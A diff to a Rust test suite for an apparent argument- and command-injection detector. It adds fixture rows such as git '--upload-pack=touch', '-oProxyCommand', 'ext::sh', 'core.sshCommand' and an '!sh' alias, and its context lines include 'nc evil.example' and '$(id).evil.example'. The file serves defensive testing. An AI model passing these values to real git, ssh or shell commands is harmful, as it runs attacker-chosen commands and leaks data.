@@ -44,6 +44,22 @@ fn table() {
         (Role::Path, "Tom & Jerry (1940).avi", None),
         (Role::Path, "--output=/etc/passwd", Some("option")),
         (Role::Path, "-", None),
+        (Role::Url, "--upload-pack=touch /tmp/x", Some("option")),
+        (Role::Url, "-oProxyCommand=touch x", Some("option")),
+        (Role::Url, "ext::sh -c touch% /tmp/x", Some("transport")),
+        (Role::Scalar, "--upload-pack=touch /tmp/x", Some("option")),
+        (Role::Scalar, " --exec=sh", Some("option")),
+        (Role::Scalar, "-oProxyCommand=touch x", Some("option")),
+        (Role::Scalar, "-c core.sshCommand=touch x", Some("option")),
+        (Role::Scalar, "--config=core.fsmonitor=touch x", Some("option")),
+        (Role::Scalar, "--config alias.x=!sh", Some("option")),
+        (Role::Scalar, "--config=jest.config.js", None),
+        (Role::Scalar, "-c", None),
+        (Role::Scalar, "-1 day", None),
+        (Role::Scalar, "--exec", None),
+        (Role::Scalar, "- item", None),
+        (Role::Scalar, "-cold", None),
+        (Role::Scalar, "external::x", None),
         (Role::Host, "example.com | nc evil.example 1", Some("chained_command")),
         (Role::Host, "$(id).evil.example", Some("substitution")),
         (Role::Scalar, "AT&T", None),
@@ -57,6 +73,18 @@ fn table() {
     ] {
         assert_eq!(kind(role, text), expected, "{role:?} {text}");
     }
+}
+
+/// Defends callers of test runners: an argument that is there for options has them.
+#[test]
+fn options_where_options_belong() {
+    let found = |key| {
+        let leaf = Leaf::new("--exec=sh", key, LeafKind::Text, Role::Scalar, Direction::Arguments);
+        let mut hits = Vec::new();
+        find(&leaf, &super::super::percent::decode("--exec=sh"), &mut hits);
+        hits.len()
+    };
+    assert_eq!((found("branch"), found("extra_args"), found("flags")), (1, 0, 0));
 }
 
 /// Defends the INVARIANT that the list builds.
